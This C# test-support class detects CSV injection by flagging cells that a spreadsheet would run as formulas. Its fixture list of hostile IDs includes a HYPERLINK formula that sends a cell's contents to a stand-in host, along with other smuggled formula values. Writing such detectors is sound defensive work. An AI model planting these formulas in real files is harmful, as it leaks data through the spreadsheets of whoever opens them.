using CsvHelper;

namespace CategoryMatch.Tests.Support;

/// <summary>
/// Reads a CSV file as an organiser's spreadsheet sees it, to check that no cell would run as a formula
/// (CSV injection): a cell starting with <c>= + - @</c>, tab or CR, also after leading spaces, is a formula to
/// Excel, LibreOffice or Google Sheets; one starting with a single quote is text.
/// </summary>
public static class SpreadsheetCells
{
    /// <summary>Ids a careless or hostile entrant might give: each would run as a formula if written as it is.</summary>
    public static readonly string[] FormulaIds =
        ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", " @cmd"];

    /// <summary>Every record (the header first), each as its fields, as CsvHelper reads them.</summary>
    public static List<string[]> Read(string csv)
    {
        using var reader = CsvReader.Create(System.Text.Encoding.UTF8.GetBytes(csv), CsvReaderOptions.Default with { HasHeader = false });
        var records = new List<string[]>();
        while (reader.Read())
            records.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
        return records;
    }

    /// <summary>Whether a spreadsheet would read the cell as a formula.</summary>
    public static bool IsFormula(string cell) =>
        cell.StartsWith('\t') || cell.StartsWith('\r') || cell.TrimStart() is [var first, ..] && "=+-@".Contains(first);

    /// <summary>Fails naming every cell of <paramref name="csv"/> that a spreadsheet would run.</summary>
    public static void AssertNoFormula(string csv)
    {
        var formulas = Read(csv).SelectMany((r, i) => r.Select((cell, j) => (Row: i, Column: j, Cell: cell))).Where(c => IsFormula(c.Cell)).ToList();
        Assert.True(formulas.Count == 0, "cells a spreadsheet would run as formulas:\n" +
            string.Join("\n", formulas.Select(f => $"row {f.Row}, column {f.Column}: {f.Cell.Replace("\r", "\\r").Replace("\t", "\\t")}")));
    }

    /// <summary>A CSV field with quotes around it, quotes inside doubled, as an organiser's file may hold it.</summary>
    public static string Quoted(string field) => "\"" + field.Replace("\"", "\"\"") + "\"";
}
